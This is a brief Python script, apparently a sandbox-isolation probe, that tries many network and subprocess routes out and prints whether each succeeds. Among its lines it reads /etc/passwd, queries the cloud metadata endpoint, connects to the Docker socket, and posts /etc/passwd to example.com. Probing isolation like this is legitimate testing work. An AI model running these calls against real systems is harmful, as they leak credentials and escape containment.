# Talks to the outside by every module that could.
import socket, subprocess, asyncio, urllib.request, http.client, ssl, requests
for f in (lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/").read(), lambda: urllib.request.urlopen("file:///etc/passwd").read(), lambda: urllib.request.urlopen("data:,x").read(),
          lambda: urllib.request.urlretrieve("http://example.com", "/tmp/x"), lambda: http.client.HTTPConnection("localhost", 22).request("GET", "/"), lambda: socket.create_connection(("127.0.0.1", 22)),
          lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"), lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW), lambda: socket.getaddrinfo("secret.example.com", 53),
          lambda: socket.gethostbyname("x.example.com"), lambda: socket.fromfd(0, socket.AF_INET, socket.SOCK_STREAM), lambda: socket.socketpair(), lambda: subprocess.run("id", shell=True), lambda: subprocess.Popen(["id"]),
          lambda: subprocess.check_output(["cat", "/etc/passwd"]), lambda: asyncio.run(asyncio.create_subprocess_shell("id")), lambda: asyncio.run(asyncio.open_connection("localhost", 22)),
          lambda: requests.post("http://example.com", data=open("/etc/passwd").read()), lambda: ssl.create_default_context(), lambda: asyncio.new_event_loop().add_reader(0, print)):
    try:
        print(f())
    except BaseException as e:
        print(type(e).__name__, str(e)[:80])
